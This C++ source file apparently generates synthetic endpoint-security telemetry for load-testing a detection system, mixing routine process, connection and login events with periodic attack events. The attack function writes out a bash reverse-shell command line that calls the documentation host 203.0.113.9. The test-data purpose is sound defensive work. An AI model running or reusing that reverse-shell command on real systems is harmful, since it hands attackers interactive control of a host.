#include "message.h"

#include <array>
#include <cstdio>

#include "base/core/json_writer.h"

namespace picket::load {
namespace {

// Index of the attack event inside its message; any number below events_per_message would do.
constexpr std::uint32_t kAttackIndex = 0;

void process(JsonWriter& json, std::uint64_t number, std::uint32_t index) {
  json.key("Executable").value("/usr/bin/sensor-read").key("ProcessId").value(std::int64_t{2000} + index);
  json.key("ParentProcessId").value(1).key("UserId").value("1000").key("UserName").value("operator");
  json.key("CommandLine")
      .value("/usr/bin/sensor-read --channel " + std::to_string(index) + " --cycle " + std::to_string(number % 4096));
  json.key("ParentExecutable").value("/usr/sbin/plc-runtime").key("HitCount").value(1);
}

void connection(JsonWriter& json, std::uint64_t number, std::uint32_t index) {
  json.key("RemoteAddress").value("198.51.100." + std::to_string(number % 250 + 1));
  json.key("RemotePort").value("8883").key("LocalAddress").value("10.0.0.7");
  json.key("LocalPort").value(std::to_string(30'000 + (number + index) % 20'000)).key("Direction").value("Out");
  json.key("Protocol").value("TCP").key("ProcessId").value(731).key("UserId").value("1000");
  json.key("Executable").value("/usr/sbin/plc-runtime").key("CommandLine").value("/usr/sbin/plc-runtime --line 4");
}

void login(JsonWriter& json, std::uint32_t index) {
  json.key("ProcessId").value(std::int64_t{900} + index).key("Operation").value("Login").key("Executable");
  json.value("/usr/sbin/sshd").key("Result").value("Success").key("UserId").value("1000").key("UserName");
  json.value("operator").key("RemoteAddress").value("192.0.2.10").key("RemotePort").value("50022");
  json.key("LocalPort").value("22");
}

void attack(JsonWriter& json, const Plan& plan, std::uint64_t number) {
  json.key("Executable")
      .value("/usr/bin/bash")
      .key("ProcessId")
      .value(4000 + static_cast<std::int64_t>(number % 60'000));
  json.key("ParentProcessId").value(1).key("UserId").value("33").key("UserName").value("www-data");
  json.key("CommandLine").value(attack_command_line(plan, number));
}

}  // namespace

std::string event_id(const Plan& plan, std::uint64_t number, std::uint32_t index) {
  std::array<char, 40> text{};
  std::snprintf(text.data(), text.size(), "%08x-0000-4000-8%03x-%012llx", plan.run, index & 0xFFF,
                static_cast<unsigned long long>(number & 0xFFFF'FFFF'FFFFULL));
  return {text.data(), 36};
}

bool holds_attack(const Plan& plan, std::uint64_t number) {
  if (plan.attack_every == 0) return false;
  // Message n holds the events n*k .. n*k+k-1; one of them may be a multiple of attack_every.
  const std::uint64_t first = number * plan.events_per_message;
  const std::uint64_t next_attack = (first + plan.attack_every - 1) / plan.attack_every * plan.attack_every;
  return next_attack < first + plan.events_per_message;
}

std::string attack_command_line(const Plan& plan, std::uint64_t number) {
  return "bash -c bash -i >& /dev/tcp/203.0.113.9/" + std::to_string(1024 + number % 60'000) + " 0>&1 #" +
         std::to_string(plan.run) + "-" + std::to_string(number);
}

std::string make_message(const Plan& plan, std::uint64_t number, Timestamp now) {
  JsonWriter json;
  json.begin_object().key("AgentVersion").value("load").key("AgentId").value("00000000-0000-4000-8000-00000000load");
  json.key("MessageSchemaVersion").value("3.0").key("SentUtc").value(now).key("Events").begin_array();
  for (std::uint32_t i = 0; i < plan.events_per_message; ++i) {
    const bool is_attack = i == kAttackIndex && holds_attack(plan, number);
    const std::uint64_t kind = is_attack ? 0 : (number * plan.events_per_message + i) % 10;
    const char* name = kind < 5 ? "ProcessCreate" : kind < 9 ? "ConnectionCreate" : "Login";
    json.begin_object().key("Id").value(event_id(plan, number, i)).key("TimestampLocal").value(now);
    json.key("TimestampUTC").value(now).key("Category").value("Triggered").key("Name").value(name);
    json.key("EventType").value("Security").key("IsEmpty").value(false).key("PayloadSchemaVersion").value("1.0");
    json.key("Payload").begin_array().begin_object();
    if (is_attack) {
      attack(json, plan, number);
    } else if (kind < 5) {
      process(json, number, i);
    } else if (kind < 9) {
      connection(json, number, i);
    } else {
      login(json, i);
    }
    json.end_object().end_array().end_object();
  }
  return json.end_array().end_object().take();
}

}  // namespace picket::load
